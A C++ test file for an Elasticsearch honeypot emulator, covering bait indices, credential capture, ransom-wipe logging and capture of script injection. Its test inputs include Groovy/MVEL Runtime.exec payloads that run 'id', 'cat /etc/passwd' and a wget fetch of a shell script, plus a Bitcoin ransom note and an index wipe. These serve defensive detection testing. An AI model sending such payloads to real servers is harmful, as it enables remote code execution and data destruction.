// The elasticsearch emulator: the search engine over the bait indices, and the node's answers
// over an in-memory session — the root document and headers of each release, the 401 of a
// secured 8.x with Basic credentials captured, _cat tables, searches, errors, writes, ransom
// wipes and script payloads captured, bad input bounded.
#include <gtest/gtest.h>

#include <regex>

#include "core/error.hpp"
#include "honeypot/services/elasticsearch/es_indices.hpp"
#include "honeypot/services/registry.hpp"
#include "honeypot/world/db_bait.hpp"
#include "support/dialogue.hpp"

namespace decnet::honeypot {
namespace {

using decnet::testing::Dialogue;
using decnet::testing::DialogueOptions;
using decnet::testing::field;
using decnet::testing::first_event;

struct Response {
    std::string head, body;
};

Response roundtrip(Dialogue& d, const std::string& request) {
    d.send(request);
    Response r;
    r.head = d.read_until("\r\n\r\n");
    const auto at = r.head.find("content-length: ");
    if (at != std::string::npos && request.rfind("HEAD ", 0) != 0) {
        const auto length = std::stoul(r.head.substr(at + 16));
        if (length) r.body = d.read_exact(length);
    }
    return r;
}

Response get(Dialogue& d, const std::string& path, const std::string& extra = "") {
    return roundtrip(
        d, "GET " + path + " HTTP/1.1\r\nHost: x\r\nUser-Agent: curl/7.88.1\r\n" + extra + "\r\n");
}

Response send_body(Dialogue& d, const std::string& method, const std::string& path,
                   const std::string& body, const std::string& extra = "") {
    return roundtrip(d, method + " " + path + " HTTP/1.1\r\nHost: x\r\n" + extra +
                            "Content-Type: application/json\r\nContent-Length: " +
                            std::to_string(body.size()) + "\r\n\r\n" + body);
}

es::Index small_index() {
    es::Index index;
    index.name = "people";
    for (const auto* source :
         {R"({"name":"Jennifer Walsh","role":"admin","email":"jw@corp.local"})",
          R"({"name":"Tom Becker","role":"customer","email":"tom@gmail.com"})",
          R"({"name":"Sarah J","role":"customer","tags":["vip","eu"]})"})
        index.docs.push_back(*es::make_doc(std::to_string(index.docs.size() + 1), source));
    return index;
}

std::size_t total_of(const es::Index& index, const std::string& body, const std::string& q = "") {
    const es::Index* indices[] = {&index};
    es::SearchParams params;
    params.body = body;
    params.q = q;
    const auto result = es::search(indices, params);
    EXPECT_FALSE(result.error) << (result.error ? result.error->reason : "");
    return result.total;
}

TEST(EsSearch, QueriesOverDocuments) {
    const auto index = small_index();
    EXPECT_EQ(total_of(index, ""), 3u);
    EXPECT_EQ(total_of(index, R"({"query":{"match_all":{}}})"), 3u);
    EXPECT_EQ(total_of(index, R"({"query":{"match":{"name":"walsh"}}})"), 1u);
    EXPECT_EQ(total_of(index, R"({"query":{"match":{"name":{"query":"tom walsh"}}}})"), 2u);
    EXPECT_EQ(total_of(index, R"({"query":{"term":{"role.keyword":"customer"}}})"), 2u);
    EXPECT_EQ(total_of(index, R"({"query":{"query_string":{"query":"role:admin OR vip"}}})"), 2u);
    EXPECT_EQ(total_of(index, "", "email:*gmail*"), 1u);
    EXPECT_EQ(total_of(index, R"({"query":{"bool":{"must":[{"match":{"role":"customer"}}],)"
                              R"("must_not":[{"exists":{"field":"tags"}}]}}})"),
              1u);
    EXPECT_EQ(total_of(index, R"({"query":{"ids":{"values":["2","3"]}}})"), 2u);

    const es::Index* indices[] = {&index};
    es::SearchParams params;
    params.body = R"({"size":1,"query":{"filtered":{"query":{"match_all":{}}}}})";
    auto result = es::search(indices, params);
    ASSERT_TRUE(result.error);
    EXPECT_EQ(result.error->type, "parsing_exception");
    EXPECT_EQ(result.error->reason, "unknown query [filtered]");
    EXPECT_EQ(result.error->cause_type, "named_object_not_found_exception");
    const std::string nested = std::string(200, '[') + std::string(200, ']');
    params.body = nested;  // a view: the string must outlive the search
    result = es::search(indices, params);
    ASSERT_TRUE(result.error);
    params.body = "{\"query\":{\"match\":{\"name\":\"\xff\xfe\"}}}";
    result = es::search(indices, params);
    ASSERT_TRUE(result.error);
    EXPECT_EQ(result.error->reason, "Invalid UTF-8 start byte 0xff");
}

TEST(EsSearch, ScriptsAndTheirCommands) {
    const auto groovy = es::find_script(
        R"js({"size":1,"script_fields":{"lupin":{"lang":"groovy","script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}})js");
    ASSERT_TRUE(groovy);
    EXPECT_EQ(groovy->lang, "groovy");
    EXPECT_EQ(groovy->command, "id");
    const auto mvel = es::find_script(
        R"js({"size":1,"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"x":{"script":"import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"cat /etc/passwd\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}})js");
    ASSERT_TRUE(mvel);
    EXPECT_EQ(mvel->lang, "");
    EXPECT_EQ(mvel->command, "cat /etc/passwd");
    EXPECT_FALSE(es::find_script(R"({"query":{"match_all":{}}})"));
}

TEST(EsSearch, BaitIndicesComeFromTheDbFacts) {
    DbFacts facts;
    facts.hostname = "shop-db";
    facts.domain = "corp.local";
    facts.app = "shop";
    facts.people = {"alice"};
    facts.seed = 42;
    const auto indices = es::make_bait_indices(facts, 1'796'000'000);
    ASSERT_EQ(indices.size(), 3u);
    EXPECT_EQ(indices[0].name, "customers");
    EXPECT_EQ(indices[1].name, "orders");
    EXPECT_EQ(indices[2].name, "logs-2026.11");
    EXPECT_EQ(indices[0].docs.size(), 11u);
    EXPECT_NE(indices[0].docs[0].source.find("\"password_hash\":\"$2y$10$"), std::string::npos);
    EXPECT_NE(indices[1].docs[0].source.find("card_number"), std::string::npos);
    EXPECT_EQ(es::make_bait_indices(facts, 1'796'000'000)[0].uuid, indices[0].uuid);
    EXPECT_EQ(es::byte_size(226), "226b");
    EXPECT_EQ(es::byte_size(25907), "25.2kb");
    EXPECT_EQ(es::byte_size(2048), "2kb");
}

TEST(EsSearch, BaitIsMadeOnceAnHourAndSharedByConnections) {
    DbFacts facts;
    facts.hostname = "shop-db";
    facts.app = "shop";
    facts.seed = 42;
    es::BaitCache cache;
    const std::int64_t hour = 1'796'000'000 - 1'796'000'000 % 3600;
    const auto first = cache.get(facts, hour + 10);
    const auto again = cache.get(facts, hour + 3599);
    EXPECT_EQ(first.get(), again.get()) << "made again within the hour";
    const auto& logs = (*first)[2].docs;
    ASSERT_FALSE(logs.empty());
    EXPECT_EQ(logs.back().source, (*again)[2].docs.back().source);
    const auto next = cache.get(facts, hour + 3600);
    EXPECT_NE(next.get(), first.get()) << "the log index never moves on";
    EXPECT_EQ(next->size(), 3u);
}

TEST(EsPersona, BadValuesFailTheDeploy) {
    DeckyConfig decky;
    decky.name = "decky-01";
    decky.hostname = "search-01";
    decky.services = {"elasticsearch"};
    decky.service_config["elasticsearch"] = {{"version", "9.0.0"}};
    EXPECT_THROW(check_personas(decky), ConfigError);
    decky.service_config["elasticsearch"] = {{"cluster_name", "a b"}};
    EXPECT_THROW(check_personas(decky), ConfigError);
    decky.service_config["elasticsearch"] = {{"security", "maybe"}};
    EXPECT_THROW(check_personas(decky), ConfigError);
    decky.service_config["elasticsearch"] = {{"version", "7.10.2"}, {"security", "on"}};
    EXPECT_NO_THROW(check_personas(decky));
}

TEST(EsDialogue, RootDocumentAndHeadersOf717) {
    Dialogue d("elasticsearch");
    const auto root = get(d, "/");
    EXPECT_EQ(root.head.substr(0, root.head.find("Warning")),
              "HTTP/1.1 200 OK\r\nX-elastic-product: Elasticsearch\r\n");
    EXPECT_NE(root.head.find("Warning: 299 Elasticsearch-7.17.9-"
                             "ef48222227ee6b9e70e502f0f0daa52435ee634d \"Elasticsearch built-in "
                             "security features are not enabled."),
              std::string::npos);
    EXPECT_NE(
        root.head.find("\r\ncontent-type: application/json; charset=UTF-8\r\ncontent-length: "),
        std::string::npos);
    EXPECT_EQ(root.head.find("Server"), std::string::npos);
    EXPECT_EQ(root.head.find("Date"), std::string::npos);
    EXPECT_EQ(root.body.rfind("{\n  \"name\" : \"web-prod-03\",\n  \"cluster_name\" : "
                              "\"elasticsearch\",\n  \"cluster_uuid\" : \"",
                              0),
              0u)
        << root.body;
    EXPECT_NE(root.body.find("\"number\" : \"7.17.9\",\n    \"build_flavor\" : \"default\",\n    "
                             "\"build_type\" : \"deb\""),
              std::string::npos)
        << root.body;
    EXPECT_NE(root.body.find("\"minimum_index_compatibility_version\" : \"6.0.0-beta1\"\n  },\n  "
                             "\"tagline\" : \"You Know, for Search\"\n}\n"),
              std::string::npos);
    // The same decky has the same cluster after a restart.
    Dialogue again("elasticsearch");
    const auto uuid = [](const std::string& body) {
        const auto at = body.find("cluster_uuid");
        return body.substr(at, 40);
    };
    EXPECT_EQ(uuid(get(again, "/").body), uuid(root.body));
    const auto head = roundtrip(d, "HEAD / HTTP/1.1\r\nHost: x\r\n\r\n");
    EXPECT_NE(head.head.find("content-length: 0"), std::string::npos);
    EXPECT_EQ(field(d.event("request"), "path"), "/");
}

// nmap-service-probes' second Elasticsearch line (the first wants lucene_version last, as
// releases before 5.0 wrote it).
TEST(EsDialogue, Release68AnswersNmapsProbeAsNmapExpects) {
    Dialogue d("elasticsearch", DialogueOptions{.persona = {{"version", "6.8.23"}}});
    d.send("GET / HTTP/1.0\r\n\r\n");
    const auto all = d.expect_closed();
    const std::regex nmap(
        R"re(^HTTP/1\.0 \d\d\d [^\r\n]+\r\n[Cc]ontent-[Tt]ype: application/json; charset=UTF-8\r\n[Cc]ontent-[Ll]ength: \d+\r\n\r\n\{[\s\S]*?"name" : "([^"]+)",\n  "cluster_name" : "([^"]+)",(?:\n  "cluster_uuid" : "[^"]*",)?\n  "version" : \{\n    "number" : "([\w._-]+)",[\s\S]*"lucene_version" : "([^"]+)")re");
    std::smatch m;
    ASSERT_TRUE(std::regex_search(all, m, nmap)) << all;
    EXPECT_EQ(m[3], "6.8.23");
    EXPECT_EQ(m[4], "7.7.3");
}

TEST(EsDialogue, SecuredEightRefusesAndCapturesBasicAuth) {
    Dialogue d("elasticsearch", DialogueOptions{.persona = {{"version", "8.13.4"}}});
    const auto anonymous = get(d, "/");
    EXPECT_EQ(anonymous.head.substr(0, anonymous.head.find("content-type")),
              "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"security\" "
              "charset=\"UTF-8\"\r\nWWW-Authenticate: ApiKey\r\n");
    EXPECT_NE(anonymous.head.find("content-type: application/json\r\n"), std::string::npos);
    EXPECT_EQ(
        anonymous.body,
        R"({"error":{"root_cause":[{"type":"security_exception","reason":"missing authentication credentials for REST request [/]","header":{"WWW-Authenticate":["Basic realm=\"security\" charset=\"UTF-8\"","ApiKey"]}}],"type":"security_exception","reason":"missing authentication credentials for REST request [/]","header":{"WWW-Authenticate":["Basic realm=\"security\" charset=\"UTF-8\"","ApiKey"]}},"status":401})");
    // elastic:changeme
    const auto refused =
        get(d, "/_cat/indices", "Authorization: Basic ZWxhc3RpYzpjaGFuZ2VtZQ==\r\n");
    EXPECT_NE(refused.body.find("unable to authenticate user [elastic] for REST request "
                                "[/_cat/indices]"),
              std::string::npos);
    const auto events = d.finish();
    const auto& auth = first_event(events, "auth");
    EXPECT_EQ(field(auth, "username"), "elastic");
    EXPECT_EQ(field(auth, "password"), "changeme");
    EXPECT_EQ(field(auth, "status"), "failed");
}

TEST(EsDialogue, AcceptedLoginSeesTheCluster) {
    Dialogue d("elasticsearch",
               DialogueOptions{.persona = {{"version", "8.13.4"}, {"accept", "list"}}});
    const auto ok = get(d, "/_cluster/health", "Authorization: Basic ZWxhc3RpYzpjaGFuZ2VtZQ==\r\n");
    EXPECT_NE(ok.head.find("200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type: "
                           "application/json\r\n"),
              std::string::npos);
    EXPECT_NE(ok.body.find("\"status\":\"yellow\""), std::string::npos);
    EXPECT_EQ(field(d.event("auth"), "status"), "success");
}

TEST(EsDialogue, CatSearchAndErrors) {
    Dialogue d("elasticsearch");
    const auto cat = get(d, "/_cat/indices?v");
    EXPECT_NE(cat.head.find("content-type: text/plain; charset=UTF-8"), std::string::npos);
    EXPECT_EQ(cat.body.rfind("health status index", 0), 0u) << cat.body;
    EXPECT_NE(cat.body.find("yellow open   customers"), std::string::npos) << cat.body;
    EXPECT_NE(cat.body.find("orders"), std::string::npos);
    const auto cat_json = get(d, "/_cat/indices?format=json&h=index,docs.count");
    EXPECT_NE(cat_json.body.find(R"({"index":"customers","docs.count":")"), std::string::npos)
        << cat_json.body;
    const auto search = get(d, "/customers/_search?q=role:admin");
    EXPECT_NE(search.body.find(R"("hits":{"total":{"value":)"), std::string::npos);
    EXPECT_NE(search.body.find(R"("_index":"customers","_type":"_doc","_id":")"), std::string::npos)
        << search.body;
    EXPECT_NE(search.body.find("password_hash"), std::string::npos);
    const auto all =
        send_body(d, "POST", "/_search?pretty", R"({"query":{"match_all":{}},"size":2})");
    EXPECT_NE(all.body.find("\"_shards\" : {\n    \"total\" : 3,"), std::string::npos) << all.body;
    EXPECT_NE(get(d, "/orders/_count").body.find(R"({"count":12,)"), std::string::npos);
    const auto doc = get(d, "/customers/_doc/1");
    EXPECT_NE(doc.body.find(R"("found":true,"_source":{"customer_id":1,)"), std::string::npos)
        << doc.body;
    const auto missing = get(d, "/secrets/_search");
    EXPECT_NE(missing.head.find("404 Not Found"), std::string::npos);
    EXPECT_EQ(
        missing.body,
        R"({"error":{"root_cause":[{"type":"index_not_found_exception","reason":"no such index [secrets]","resource.type":"index_or_alias","resource.id":"secrets","index_uuid":"_na_","index":"secrets"}],"type":"index_not_found_exception","reason":"no such index [secrets]","resource.type":"index_or_alias","resource.id":"secrets","index_uuid":"_na_","index":"secrets"},"status":404})");
    const auto route = get(d, "/_nope/x");
    EXPECT_NE(route.head.find("400 Bad Request"), std::string::npos);
    EXPECT_EQ(route.body, R"({"error":"no handler found for uri [/_nope/x] and method [GET]"})");
    const auto method = roundtrip(d, "DELETE / HTTP/1.1\r\nHost: x\r\n\r\n");
    EXPECT_NE(method.head.find("405 Method Not Allowed\r\nAllow: HEAD,GET\r\n"), std::string::npos);
    const auto options = roundtrip(d, "OPTIONS /_search HTTP/1.1\r\nHost: x\r\n\r\n");
    EXPECT_NE(options.head.find("200 OK\r\nAllow: HEAD,DELETE,POST,GET,PUT\r\n"),
              std::string::npos);
    EXPECT_NE(get(d, "/_nodes").body.find("\"transport_address\""), std::string::npos);
    EXPECT_NE(get(d, "/_cat/health?v").body.find("elasticsearch yellow"), std::string::npos);
    EXPECT_NE(get(d, "/_mapping").body.find(R"("password_hash":{"type":"keyword"})"),
              std::string::npos);
}

TEST(EsDialogue, RansomWipeAndNoteAreCaptured) {
    Dialogue d("elasticsearch");
    EXPECT_NE(roundtrip(d, "DELETE /customers,orders HTTP/1.1\r\nHost: x\r\n\r\n").body, "");
    const auto note = send_body(d, "POST", "/read_me/_doc/1",
                                R"({"message":"All your data is backed up. Send 0.01 BTC to )"
                                R"(bc1qxyz to recover it."})");
    EXPECT_NE(note.head.find("201 Created"), std::string::npos);
    EXPECT_NE(note.body.find(R"("result":"created")"), std::string::npos);
    const auto cat = get(d, "/_cat/indices");
    EXPECT_EQ(cat.body.find("customers"), std::string::npos) << cat.body;
    EXPECT_NE(cat.body.find("read_me"), std::string::npos) << cat.body;
    const auto events = d.finish();
    const auto& wipe = first_event(events, "delete");
    EXPECT_EQ(field(wipe, "action"), "index_delete");
    EXPECT_EQ(field(wipe, "index"), "customers,orders");
    EXPECT_EQ(field(first_event(events, "write"), "index"), "read_me");
    EXPECT_NE(field(first_event(events, "ransom_note"), "note").find("BTC"), std::string::npos);
}

// Bait indices are shared by every connection and never changed in place: what one
// connection writes or wipes shows in its own and later views, the untouched ones stay whole.
TEST(EsDialogue, WritesAndWipesOfBaitIndicesShowOnTopOfTheSharedBait) {
    Dialogue d("elasticsearch");
    const auto count = [&d](const std::string& index) {
        const auto body = get(d, "/" + index + "/_count").body;
        const auto at = body.find("\"count\":");
        return at == std::string::npos ? -1 : std::stoi(body.substr(at + 8));
    };
    const int orders = count("orders"), customers = count("customers");
    ASSERT_GT(orders, 0);
    ASSERT_GT(customers, 0);
    EXPECT_NE(send_body(d, "PUT", "/orders/_doc/zz-1", R"({"status":"paid"})").head.find("201"),
              std::string::npos);
    EXPECT_EQ(count("orders"), orders + 1);
    EXPECT_EQ(count("customers"), customers);
    EXPECT_NE(send_body(d, "POST", "/customers/_delete_by_query", R"({"query":{"match_all":{}}})")
                  .body.find("\"deleted\":" + std::to_string(customers)),
              std::string::npos);
    EXPECT_EQ(count("customers"), 0);
    EXPECT_EQ(count("orders"), orders + 1);
}

TEST(EsDialogue, ScriptPayloadsAreCapturedAndRefused) {
    Dialogue d("elasticsearch");
    const auto reply = send_body(
        d, "POST", "/_search",
        R"js({"size":1,"script_fields":{"lupin":{"lang":"groovy","script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"wget http://x/a.sh\").getText()"}}})js");
    EXPECT_NE(reply.head.find("400 Bad Request"), std::string::npos);
    EXPECT_NE(reply.body.find("script_lang not supported [groovy]"), std::string::npos);
    const auto script = d.event("script");
    EXPECT_EQ(field(script, "lang"), "groovy");
    EXPECT_EQ(field(script, "command"), "wget http://x/a.sh");
}

TEST(EsDialogue, BadInputIsBounded) {
    Dialogue d("elasticsearch");
    const auto deep = send_body(d, "POST", "/_search", std::string(5000, '{'));
    EXPECT_NE(deep.head.find("400 Bad Request"), std::string::npos);
    EXPECT_NE(deep.body.find("x_content_parse_exception"), std::string::npos);
    const auto utf8 = send_body(d, "POST", "/_search", "{\"query\":\"\xc3\x28\"}");
    EXPECT_NE(utf8.body.find("Invalid UTF-8"), std::string::npos);
    d.send("POST /_bulk HTTP/1.1\r\nHost: x\r\nContent-Length: 999999999\r\n\r\n");
    const auto big = d.expect_closed();
    EXPECT_EQ(big.rfind("HTTP/1.1 413 Request Entity Too Large\r\n", 0), 0u) << big;
    EXPECT_EQ(field(d.event("bad_request"), "error"), "body too large");
}

}  // namespace
}  // namespace decnet::honeypot
